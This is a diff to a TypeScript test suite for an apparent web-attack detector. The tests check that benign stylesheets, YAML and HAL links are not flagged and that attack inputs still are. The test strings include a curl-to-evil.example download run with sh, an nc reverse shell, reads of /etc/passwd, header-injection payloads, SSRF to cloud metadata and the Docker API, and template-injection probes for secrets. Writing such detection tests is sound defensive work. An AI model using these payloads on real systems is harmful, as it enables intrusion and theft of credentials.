@@ -2501,9 +2501,16 @@ t.test('thirty-second round: sweeps of documentation, CI configurations, stylesh
   for (const p of ['{{< x >}}{{config}}', '{{< x >}}{{ config.items() }}', '{{config}}', '{{ get_flashed_messages.__globals__.current_app.config }}', '{{ self.__init__.__globals__ }}']) t.ok(q(p, 'description').includes('ssti'), `still read: ${p}`)
   // a stylesheet's declarations and a YAML document's mappings are no headers; the headers that split a response still are, however written
   const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
-  for (const p of ['html,\nbody {\n  margin: 0;\n  font-family: "Open Sans", sans-serif;\n}\n\nbutton {\n  border-radius: 0.25rem;\n}', '---\n# Hadolint config file\n\nfailure-threshold: warning', 'jobs:\n  dependabot:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Fetch metadata\n        uses: dependabot/fetch-metadata@v3']) {
+  const css = 'html,\nbody {\n  margin: 0;\n  font-family: "Open Sans", sans-serif;\n}\n\nbutton {\n  border-radius: 0.25rem;\n}'
+  t.same(field(css), [], 'a stylesheet in a form field')
+  t.same(q(css, 'snippet'), [], 'a stylesheet in a query')
+  for (const p of ['---\n# Hadolint config file\n\nfailure-threshold: warning', 'jobs:\n  dependabot:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Fetch metadata\n        uses: dependabot/fetch-metadata@v3']) {
     t.same(field(p), [], p)
-    t.same(q(p, 'snippet'), [], `in a query: ${p}`)
+    t.ok(q(p, 'snippet').includes('crlf'), `a YAML opening is no exemption in a query (review): ${p}`)
+  }
+  for (const p of ['---\r\nService-Worker-Allowed: /', '---\nClear-Site-Data: "*"', 'a:\r\n  b: c\r\nAlt-Svc: h2="evil.example:443"', 'x\nReferrer-Policy: unsafe-url', '---\r\nX-Evil: 1']) {
+    t.ok(q(p, 'lang').includes('crlf'), `still read in a query: ${p}`)
+    t.ok(field(p).includes('crlf'), `a response's header is read in a form's YAML too: ${p}`)
   }
   for (const p of ['x\r\nFoo-Bar: baz', 'x%0d%0aInjected-Header: 1', '---\r\nSet-Cookie: a=b', 'a:\r\n  Location: http://evil.example', 'x\r\n  Set-Cookie: a=b;', 'x\r\n  X-Forwarded-For: 1;', '---\nContent-Type: text/html']) t.ok(q(p, 'snippet').includes('crlf'), `still read: ${p}`)
   // documentation's placeholder directory under a file key; climbing out of it still counts
@@ -2546,6 +2553,22 @@ t.test('thirty-second round: the twenty-second part\'s false positives, by kind'
   for (const p of ["${formatDateTime(start.dateTime, 'HH:mm')} - ${formatDateTime(end.dateTime, 'hh:mm')}", '${if(isUrgent, "Now", "Later")}', '${concat(first, " ", last)}']) t.same(q(p, 'text'), [], p)
   for (const p of ['${system(id)}', '${@print(md5(1))}', '${sleep(5)}', '${formatDateTime(x)}${passthru(id)}', '${Formatdatetimex(1)}']) t.ok(q(p, 'text').includes('rce'), `still read: ${p}`)
   // a HAL resource's own links to the loopback host
-  for (const doc of [{ _links: { self: { href: 'localhost' } } }, { orderId: '42', state: 'AWAITING_PAYMENT', _links: { self: { href: 'http://localhost/orders/999' } } }, { _embedded: { items: [{ _links: { self: { href: 'http://127.0.0.1:8080/items/1' } } }] }, _links: { next: [{ href: 'http://localhost/items?page=2' }] } }]) t.same(json(doc), [], JSON.stringify(doc))
-  for (const doc of [{ _links: { self: { href: 'http://169.254.169.254/latest/meta-data/' } } }, { _links: { self: { href: 'http://10.0.0.1/x' } } }, { _links: { self: { href: 'http://localhost/x' } }, callback: { href: 'http://localhost/x' } }, { href: 'http://localhost/x', _links: {} }, { _links: { self: { href: 'http://localhost@evil.example/x' } } }]) t.ok(json(doc).includes('ssrf'), `still read: ${JSON.stringify(doc)}`)
+  for (const doc of [{ _links: { self: { href: 'localhost' } } }, { orderId: '42', state: 'AWAITING_PAYMENT', _links: { self: { href: 'http://localhost/orders/999' } } }, { _embedded: { items: [{ _links: { self: { href: 'http://127.0.0.1:8080/items/1' } } }] }, _links: { next: [{ href: 'http://localhost/items/page/2' }] } }]) t.same(json(doc), [], JSON.stringify(doc))
+  for (const doc of [{ _links: { self: { href: 'http://169.254.169.254/latest/meta-data/' } } }, { _links: { self: { href: 'http://10.0.0.1/x' } } }, { _links: { self: { href: 'http://localhost/x' } }, callback: { href: 'http://localhost/x' } }, { href: 'http://localhost/x', _links: {} }, { _links: { self: { href: 'http://localhost@evil.example/x' } } }, { _links: { self: { href: 'http://localhost/proxy?url=http://169.254.169.254/latest/meta-data/' } } }, { _links: { self: { href: 'http://127.0.0.1:2375/containers/json' } } }, { _links: { callback: { href: 'http://[::1]:9200/_cat/indices' } } }]) t.ok(json(doc).includes('ssrf'), `still read: ${JSON.stringify(doc)}`)
+})
+
+t.test('review of the thirty-second round: the exemptions an attacker could shape, read again', async (t) => {
+  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
+  const dressing = '\nexport A=1\nexport B=2\nexport C=3\n'
+  // a loop header only when it is Go's (a declaration, a comparison, a step), not any line opening on `for`
+  for (const p of [`for x; curl -o /tmp/s http://evil.example/s; sh /tmp/s {${dressing}`, `for i := 0; id; i++ {${dressing}`, 'func f() {\n\tx := 1\n\tfor i := 0; cat < /etc/passwd; i++ {\n\t\tx++\n\t}\n}']) t.ok(field(p).length > 0, `still read: ${p.split('\n')[0]}`)
+  t.ok(q(`for x; nc 10.0.0.1 4444 -e /bin/sh {${dressing}`, 'cmd').includes('rce'), 'a reverse shell in a loop header, in a query')
+  // an address assigned or returned only in a program that shows it is Go's, Rust's or C's
+  for (const p of [`${dressing}return &id\n`, `${dressing}x = &id\n`]) t.ok(field(p).includes('rce'), `still read: ${JSON.stringify(p)}`)
+  // `.config` after a member is a CMS's object walk (Craft, Grav), not a Go template's field
+  for (const p of ['{{craft.app.config.general.securityKey}}', '{{ craft.app.config.db.password }}', '{{ grav.config.system }}', '{{ g.config }}']) t.ok(q(p).includes('ssti'), `still read: ${p}`)
+  // PHP's complex syntax through an allowed name with a call, a backtick or a variable in its arguments
+  for (const p of ['${last(`id`)}', '${last(system(id))}', '${@last(system(id))}', '${string(system(id))}', '${concat($_GET[x])}']) t.ok(q(p, 'text').includes('rce'), `still read: ${p}`)
+  // a Go template's field before a bare slash is a probe still
+  for (const p of ['{{ .Password }}/', '{{- .AWSSecret -}}/']) t.ok(q(p, 'env').includes('ssti'), `still read: ${p}`)
 })
